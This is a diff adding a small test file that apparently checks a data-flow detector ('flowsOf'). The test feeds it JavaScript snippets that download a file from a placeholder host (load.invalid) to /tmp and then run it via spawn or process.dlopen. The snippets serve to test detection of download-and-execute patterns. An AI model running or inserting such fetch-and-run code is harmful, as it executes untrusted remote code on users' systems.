@@ -1,0 +1,14 @@
+import assert from 'node:assert/strict';
+import { flowsOf } from './sent.js';
+
+describe('streams', () => {
+  it('put an answer that came as an argument into a file, which may be run', () => {
+    const run = (then: string) =>
+      flowsOf(`https.get('https://load.invalid/a', (res) => { const f = fs.createWriteStream('/tmp/a.js'); res.pipe(f);
+        f.on('finish', () => { f.close(); ${then} }); });`);
+    assert.deepEqual(run(`cp.spawn('node', ['/tmp/a.js']);`), ['downloaded>run-as-command']);
+    assert.deepEqual(run(`cp.spawn('/tmp/a.js', []);`), ['downloaded>written-and-run']);
+    assert.deepEqual(run(`process.dlopen(module, '/tmp/a.js');`), ['downloaded>native-loaded']);
+    assert.deepEqual(run(`cp.spawn('node', ['/tmp/b.js']);`), []);
+  });
+});
